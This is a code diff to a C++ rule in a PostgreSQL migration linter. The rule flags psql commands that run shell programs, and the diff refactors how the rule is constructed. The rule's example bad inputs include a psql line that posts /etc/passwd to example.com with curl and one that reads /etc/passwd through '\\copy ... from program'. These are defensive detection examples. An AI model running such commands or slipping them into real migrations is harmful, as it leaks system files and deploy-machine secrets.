@@ -33,24 +33,26 @@ static void check_command(const MetaCommand& command, std::string_view text, Con
       "Do it in the script that calls psql, where it is seen and where it has the rights that it needs.";
 }
 
-Rule rule() {
-  return {.info = {.id = "psql-runs-program",
-                   .title = "A psql command that runs a program",
-                   .category = Category::privileges,
-                   .severity = Severity::error,
-                   .why = R"(
+const Rule& rule() {
+  static constexpr Rule rule = {
+      .info = {.id = "psql-runs-program",
+               .title = "A psql command that runs a program",
+               .category = Category::privileges,
+               .severity = Severity::error,
+               .why = R"(
 `\!`, `\copy ... program`, `\o |...` and backquotes start a shell with the rights and the environment of whoever applies
 the migration: a deploy machine with its secrets. Reviewers of SQL do not look for it. The rehearsal never runs them.)",
-                   .instead = R"(Leave programs to the script that calls psql.)",
-                   .since = "0.1.0",
-                   .applies_to_down = true,
-                   .security_severity = 8.0,
-                   .bad = {{.sql = "\\! curl -d @/etc/passwd example.com\nSELECT 1;", .in_transaction = false},
-                           {.sql = "\\copy t from program 'cat /etc/passwd'\nSELECT 1;", .in_transaction = false},
-                           {.sql = "\\set host `hostname`\nSELECT 1;", .in_transaction = false}},
-                   .good = {{.sql = "\\copy program from 'program.csv' csv\nSELECT 1;", .in_transaction = false},
-                            {.sql = "\\set owner app\nALTER TABLE t OWNER TO :owner;", .in_transaction = false}}},
-          .check_command = check_command};
+               .instead = R"(Leave programs to the script that calls psql.)",
+               .since = "0.1.0",
+               .applies_to_down = true,
+               .security_severity = 8.0,
+               .bad = {{.sql = "\\! curl -d @/etc/passwd example.com\nSELECT 1;", .in_transaction = false},
+                       {.sql = "\\copy t from program 'cat /etc/passwd'\nSELECT 1;", .in_transaction = false},
+                       {.sql = "\\set host `hostname`\nSELECT 1;", .in_transaction = false}},
+               .good = {{.sql = "\\copy program from 'program.csv' csv\nSELECT 1;", .in_transaction = false},
+                        {.sql = "\\set owner app\nALTER TABLE t OWNER TO :owner;", .in_transaction = false}}},
+      .check_command = check_command};
+  return rule;
 }
 
 }  // namespace pgrehearse::rules::psql_runs_program
